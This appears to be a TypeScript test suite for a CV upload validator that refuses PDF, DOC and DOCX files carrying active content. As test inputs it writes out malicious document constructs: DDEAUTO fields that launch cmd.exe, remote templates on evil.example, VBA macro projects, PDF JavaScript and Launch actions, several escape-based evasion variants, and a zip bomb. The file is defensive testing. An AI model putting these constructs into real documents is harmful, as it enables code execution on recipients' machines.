import fc from "fast-check";
import { deflateRawSync, deflateSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { costlyFiles } from "./costly-test-files.ts";
import { checkCvFile } from "./cv-file.ts";
import {
  docx,
  docxWithField,
  docxWithRelationship,
  join,
  ole,
  pdf,
  pdfWithObject,
  pdfWithStream,
  program,
  relationshipType,
  zipAfter,
} from "./cv-test-files.ts";

const text = new TextEncoder();
const reason = (name: string, bytes: Uint8Array) => {
  const verdict = checkCvFile(name, bytes);
  return verdict.ok ? `accepted ${verdict.flags.join()}`.trim() : verdict.reason;
};
const action = (type: string) => `<</Type/Action/S/${type}/JS(app.alert\\(1\\))>>`;
const xml = (content: string) => ({ name: "word/header1.xml", content, method: 8 });

describe("R-VAL-08: a DOCX that does more than show text is refused", () => {
  const remote = (target: string) =>
    docxWithRelationship(`${relationshipType("attachedTemplate")} Target="${target}" TargetMode="External"`);
  test.each([
    [
      "a macro project under another name, by its bytes",
      docx({ name: "word/styles.dat", content: ole("VBA/"), method: 8 }),
    ],
    [
      "a macro project under another name, by its relationship",
      docxWithRelationship(
        'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.dat"',
      ),
    ],
    [
      "a macro project whose relationship is written with entities",
      docxWithRelationship(
        "Type = 'http://schemas.microsoft.com/office/2006/relationships/&#x76;baProject' Target='x'",
      ),
    ],
    [
      "a document declared to have macros",
      docx({
        name: "docProps/types.xml.rels",
        content: '<ct:Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
      }),
    ],
    ["a template on the web", remote("https://evil.example/t.dotm")],
    ["a template on a share anywhere", remote("file:///\\\\evil.example\\t\\t.dotm")],
    ["a template by WebDAV", remote("\\\\evil@SSL\\DavWWWRoot\\t.dotm")],
    [
      "a packaged file in an OLE object",
      docx({ name: "word/embeddings/a.bin", content: ole("\u0001Ole10Native"), method: 8 }),
    ],
    [
      "an OLE object on the web",
      docxWithRelationship(
        `${relationshipType("oleObject")} Target="mhtml:http://evil.example!x" TargetMode="External"`,
      ),
    ],
    [
      "an ActiveX control",
      docxWithRelationship(`${relationshipType("control")} Target="activeX/activeX1.xml"`),
    ],
    [
      "another document within (altChunk)",
      docxWithRelationship(`${relationshipType("aFChunk")} Target="chunk.mht"`),
    ],
    ["a frame", docxWithRelationship(`${relationshipType("frame")} Target="x.htm" TargetMode="External"`)],
    ["an embedded program, packed", docx({ name: "word/media/image1.png", content: program(), method: 8 })],
    ["an embedded program, stored", docx({ name: "word/media/image1.png", content: program() })],
    ["an archive in it", docx({ name: "word/media/image1.png", content: docx(), method: 8 })],
    ["DDEAUTO", docxWithField(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')],
    ["DDE in small letters", docxWithField("dde x y")],
    ["DDEAUTO in pieces", docxWithField(" D", "DE", "AUTO c:\\\\x")],
    ["DDEAUTO with entities", docxWithField("&#68;D&#x45;AUTO x")],
    ["DDEAUTO behind a sign in an attribute", docx(xml('<w:instrText x="a>b">DDEAUTO x</w:instrText>'))],
    ["DDEAUTO in a section of characters", docx(xml("<w:instrText><![CDATA[DDEAUTO x]]></w:instrText>"))],
    ["a shortcut of Windows", docx({ name: "word/media/image1.lnk", content: "L", method: 8 })],
    ["a page that Windows runs", docx({ name: "word/a.hta", content: "<html/>", method: 8 })],
    ["DDEAUTO in one element", docx(xml('<w:fldSimple w:instr=" DDEAUTO x "/>'))],
    ["DDEAUTO with another prefix", docx(xml("<x:instrText>DDEAUTO x</x:instrText>"))],
    [
      "a field whose name another computes",
      docx(
        xml(
          '<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69</w:instrText>',
        ),
      ),
    ],
    [
      "DDEAUTO in a part without the extension of XML",
      docx({ name: "word/a.dat", content: "<w:instrText>DDEAUTO x</w:instrText>", method: 8 }),
    ],
  ])("%s", (_what, bytes) => {
    expect(reason("cv.docx", bytes)).toMatch(/macros, scripts or embedded programs/);
  });
});

describe("R-VAL-08: a DOCX that readers could take for something else is refused", () => {
  const bomb = deflateRawSync(`<a>${" ".repeat(30_000_000)}`);
  test.each([
    ["a name twice", docx({ name: "word/document.xml", content: "<w:document>2</w:document>" })],
    ["a name twice but for its case", docx({ name: "WORD/document.xml" })],
    ["NUL in a name", docx({ name: "word/a.xml\0.png" })],
    ["another name in the local header", docx({ name: "word/a.png", localName: "word/b.bin" })],
    ["an unknown method", docx({ name: "word/a.xml", content: "x", method: 99 })],
    ["a program before the archive", zipAfter(program(), docx())],
    ["a page before the archive", zipAfter(text.encode("<html><script>alert(1)</script>"), docx())],
    ["a PDF before the archive", zipAfter(pdf(), docx())],
    ["bytes between its entries", hidden()],
    ["stored bytes of another length", docx({ name: "word/a.xml", content: "<a/>", declaredBytes: 3 })],
    [
      "more bytes than declared",
      docx({ name: "word/a.xml", content: bomb, packed: true, method: 8, declaredBytes: 9000 }),
    ],
    ["less bytes than declared", docx({ name: "word/a.xml", content: "<a/>", method: 8, declaredBytes: 90 })],
    [
      "bytes that do not inflate",
      docx({ name: "word/a.xml", content: "<a>....</a>", method: 8, packed: true }),
    ],
    ["UTF-16", docx({ name: "word/a.xml", content: text.encode("\ufeff<\0a\0/\0>\0"), method: 8 })],
    [
      "another encoding",
      docx({ name: "word/a.xml", content: '<?xml version="1.0" encoding="utf-7"?><a/>', method: 8 }),
    ],
    [
      "definitions of its own",
      docx({ name: "word/a.xml", content: '<!DOCTYPE a [<!ENTITY d "DDE">]><a/>', method: 8 }),
    ],
  ])("%s", (_what, bytes) => {
    expect(reason("cv.docx", bytes)).toMatch(/not a PDF, DOC or DOCX document/);
  });

  /** A DOCX with a program between the second entry and the third, which no directory names. */
  function hidden(): Uint8Array {
    const whole = docx({ name: "word/a.xml", content: "<a/>" });
    const at = 30 + 19 + 8 + 30 + 17 + 13;
    const bytes = join([whole.subarray(0, at), program(), whole.subarray(at)]);
    const view = new DataView(bytes.buffer);
    const end = bytes.length - 22;
    view.setUint32(end + 16, view.getUint32(end + 16, true) + 256, true);
    view.setUint32(end - 10 - 4, at + 256, true);
    return bytes;
  }
});

describe("R-VAL-08: what honest DOCX files have passes", () => {
  const external = (type: string, target: string) =>
    docxWithRelationship(`${relationshipType(type)} Target="${target}" TargetMode="External"`);
  test.each([
    ["a link", external("hyperlink", "https://example.com/ana"), ""],
    [
      "the place of its template on a disk",
      external("attachedTemplate", "file:///C:\\Users\\Ana\\CV.dotx"),
      "",
    ],
    ["the place of its template on a Mac", external("attachedTemplate", "file:///Users/ana/CV.dotx"), ""],
    ["its template's name", external("attachedTemplate", "Normal.dotm"), ""],
    ["a template in the office", external("attachedTemplate", "\\\\NAS\\CV.dotx"), "remote-content"],
    ["a picture on the web", external("image", "https://example.com/a.png"), "remote-content"],
    [
      "a chart's table",
      docx({ name: "word/embeddings/a.xlsx", content: docx(), method: 8 }),
      "embedded-file",
    ],
    [
      "an object of another program, as a formula is",
      docx({ name: "word/embeddings/oleObject1.bin", content: ole("Equation Native"), method: 8 }),
      "embedded-object",
    ],
    ["a page number", docxWithField(" PAGE "), ""],
    ["a link by field", docxWithField(' HYPERLINK "https://example.com/dde auto" '), ""],
    ["a word that begins alike", docxWithField(" DDEX "), ""],
    ["a linked object", docxWithField(" LINK Excel.Sheet.8 c:\\\\a.xls \\\\a "), "remote-content"],
    ["a text fetched", docxWithField(' INCLUDETEXT "http://example.com/a.docx" '), "remote-content"],
    ["a picture fetched", docxWithField(' INCLUDEPICTURE "\\\\\\\\host\\\\a.png" '), "remote-content"],
    ["text about commands", docx(xml("<w:t>DDEAUTO instrText</w:t>")), ""],
    ["a picture", docx({ name: "word/media/a.png", content: `\u0089PNG`, method: 8 }), ""],
  ])("%s", (_what, bytes, flags) => {
    expect(reason("cv.docx", bytes)).toBe(`accepted ${flags}`.trim());
  });
});

describe("R-VAL-08: a PDF that does more than show pages is refused", () => {
  const megabytes = (count: number) => " ".repeat(count * 1024 * 1024);
  test.each([
    ["a script", pdf(action("JavaScript"))],
    ["a script on opening", pdf(`<</Type/Catalog/OpenAction${action("JavaScript")}>>`)],
    ["a script whose name is escaped", pdf(action("J#61vaScr#69pt"))],
    ["a script in the middle of 4 MB", pdf(`${megabytes(2)}${action("JavaScript")}${megabytes(2)}`)],
    ["a script in a compressed object", pdfWithObject(action("JavaScript"))],
    ["a script in a compressed object, its name escaped", pdfWithObject(action("#4aavaScript"))],
    [
      "a script in a compressed object that is not called one",
      pdfWithObject(action("JavaScript"), "/First 4/Filter/FlateDecode"),
    ],
    [
      "a script after a thousand objects",
      pdfWithObject(`<</A 1>>${"<</Type/Page>>".repeat(1000)}${action("JavaScript")}`),
    ],
    [
      "a script in a compressed object whose dictionary is escaped",
      pdfWithObject(action("JavaScript"), "/F#69rst 4/Fil#74er[/FlateDecode]"),
    ],
    ["a launch", pdf(action("Launch"))],
    ["a form that sends itself", pdfWithObject(action("SubmitForm"))],
    ["data brought in", pdf(action("ImportData"))],
    ["rich media", pdfWithObject("<</Type/Annot/Subtype/RichMedia>>")],
    ["a rendition, which can have a script", pdf(action("Rendition"))],
    ["an XFA form, which can have scripts", pdf("<</AcroForm<</XFA 5 0 R>>>>")],
    ["a program in it", pdfWithStream("/Type/EmbeddedFile/Filter/FlateDecode", deflateSync(program()))],
    ["a program in it, stored", pdfWithStream("/Type/EmbeddedFile", program())],
  ])("%s", (_what, bytes) => {
    expect(reason("cv.pdf", bytes)).toMatch(/macros, scripts or embedded programs/);
  });

  test.each([
    ["by another filter", "/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode"],
    ["by two filters", "/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/ASCIIHexDecode]"],
    ["behind a predictor", "/Type/ObjStm/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 15>>"],
    ["behind a string", "/First 4/Filter/FlateDecode/A(stream\n)"],
    ["that are broken", "/First 4/Filter/FlateDecode"],
  ])("objects that cannot be looked into are flagged: %s", (_what, dictionary) => {
    const hex = Buffer.from(`7 0 ${action("JavaScript")}`).toString("hex");
    expect(reason("cv.pdf", pdfWithStream(dictionary, text.encode(hex)))).toBe("accepted partly-checked");
  });

  test.each([
    ["objects that unpack to much", pdfWithStream("/First 4/Filter/FlateDecode", deflateSync(megabytes(9)))],
    ["more names than a document has", pdf("/URI ".repeat(9000))],
  ])("%s are flagged", (_what, bytes) => {
    expect(reason("cv.pdf", bytes)).toBe("accepted partly-checked");
  });
});

describe("R-VAL-08: what honest PDF files have passes", () => {
  test.each([
    ["a place to open at", pdf("<</Type/Catalog/OpenAction[3 0 R/XYZ null null 0]>>"), ""],
    ["a place to open at, as an action", pdf("<</OpenAction<</S/GoTo/D[3 0 R/Fit]>>>>"), ""],
    ["a link", pdfWithObject("<</A<</S/URI/URI(https://example.com)>>>>"), ""],
    ["a form", pdf("<</AcroForm<</Fields[5 0 R]/NeedAppearances true>>>>"), ""],
    [
      "an attachment",
      pdfWithObject("<</Type/Filespec/EF<</F 5 0 R>>/Names<</EmbeddedFiles 2 0 R>>>>"),
      "embedded-file",
    ],
    ["a link into another file", pdf("<</S/GoToR/F(a.pdf)>>"), "remote-content"],
    ["an action that opens a file", pdf("<</OpenAction<</S/URI/URI(file:///c:/a.exe)>>>>"), "remote-content"],
    ["the same by escapes", pdf("<</S/URI/URI (\\146ile://host/a)>>"), "remote-content"],
    ["the same in hexadecimal", pdf("<</S/URI/URI<66696c653a>>>"), "remote-content"],
    [
      "a stream whose data lie elsewhere",
      pdfWithStream("/F(//host/share/a)", text.encode("x")),
      "remote-content",
    ],
    ["an owner's password, without which anybody reads it", pdf("trailer<</Encrypt 5 0 R>>"), "encrypted"],
    [
      "outlines before a picture",
      pdfWithStream("/X<</First 5 0 R>>>>endobj 5 0 obj<<", text.encode("x")),
      "",
    ],
    ["a page about scripts", pdfWithStream("/Filter/FlateDecode", deflateSync("BT (/JavaScript) Tj ET")), ""],
    [
      "a picture",
      pdfWithStream("/Subtype/Image/Filter/FlateDecode", deflateSync(new Uint8Array(90_000))),
      "",
    ],
  ])("%s", (_what, bytes, flags) => {
    expect(reason("cv.pdf", bytes)).toBe(`accepted ${flags}`.trim());
  });
});

describe("R-VAL-08: a DOC that does more than show text is refused", () => {
  const withText = (content: string, bytesEach = 1) =>
    join([
      ole("WordDocument"),
      Uint8Array.from({ length: content.length * bytesEach }, (_, index) =>
        index % bytesEach === 0 ? content.charCodeAt(index / bytesEach) : 0,
      ),
    ]);
  test.each([
    ["a packaged file", ole("WordDocument", "\u0001Ole10Native")],
    ["an ActiveX control", ole("WordDocument", "\u0003OCXNAME")],
    ["macros in an object", ole("WordDocument", "_1234567890/", "VBA/")],
    ["DDEAUTO", withText('\u0013 DDEAUTO cmd "/k calc" \u0015')],
    ["DDE in two bytes a character", withText("\u0013 dde x y\u0015", 2)],
    ["a template on the web", withText("http://evil.example/t.dotm\u0001", 2)],
  ])("%s", (_what, bytes) => {
    expect(reason("cv.doc", bytes)).toMatch(/macros, scripts or embedded programs/);
  });

  test("an archive behind it", () => {
    expect(reason("cv.doc", join([ole("WordDocument"), docx()]))).toMatch(/not a PDF/);
  });

  test.each([
    ["the storage for objects, empty", ole("WordDocument", "ObjectPool/"), ""],
    ["a formula", ole("WordDocument", "_1234567890/", "Equation Native"), "embedded-object"],
    ["a field", withText("\u0013 PAGE \u0015"), ""],
    ["a link to a site named like a template", withText("http://www.dot.gov/x\u0001", 2), ""],
  ])("but not for %s", (_what, bytes, flags) => {
    expect(reason("cv.doc", bytes)).toBe(`accepted ${flags}`.trim());
  });
});

/** @returns processor time of `work`, in milliseconds */
function cost(work: () => unknown): number {
  const start = process.cpuUsage();
  work();
  const { user, system } = process.cpuUsage(start);
  return (user + system) / 1000;
}

test("5 MB of anything cost no more than eight loops over them", () => {
  // The loop is the measure, since machines differ in speed; where something else took the processor, it counts again.
  const plain = new Uint8Array(5 * 1024 * 1024).fill(47);
  let sum = 0;
  const loop = () => {
    for (let index = 0; index < plain.length; index += 1) sum = (sum * 31 + plain[index]!) | 0;
  };
  for (const [what, name, bytes] of costlyFiles()) {
    let ratio = Infinity;
    for (let round = 0; round < 4 && ratio >= 8; round += 1) {
      ratio = Math.min(ratio, cost(() => checkCvFile(name, bytes)) / cost(loop));
    }
    expect(ratio, what).toBeLessThan(8);
  }
  expect(sum).not.toBe(0);
});

test("no bytes make it throw: real files altered, cut and joined", () => {
  const samples = [
    pdfWithObject(action("URI")),
    pdfWithStream("/Type/ObjStm/Filter/FlateDecode", deflateSync("1 0 2 9 <<>>")),
    docxWithField(" PAGE "),
    docxWithRelationship(
      `${relationshipType("hyperlink")} Target="https://example.com" TargetMode="External"`,
    ),
    ole("WordDocument", "Data", "ObjectPool/"),
  ];
  const sample = fc.constantFrom(...samples);
  const change = fc.tuple(fc.nat(1500), fc.nat(255));
  fc.assert(
    fc.property(
      sample,
      sample,
      fc.array(change, { maxLength: 6 }),
      fc.nat(1500),
      (first, second, changes, cut) => {
        const bytes =
          cut % 3 === 0
            ? join([first.subarray(0, cut), second])
            : first.slice(0, cut % 3 === 1 ? cut : undefined);
        for (const [at, value] of changes) if (at < bytes.length) bytes[at] = value;
        for (const name of ["a.pdf", "a.doc", "a.docx"]) checkCvFile(name, bytes);
      },
    ),
    { numRuns: 4000 },
  );
});
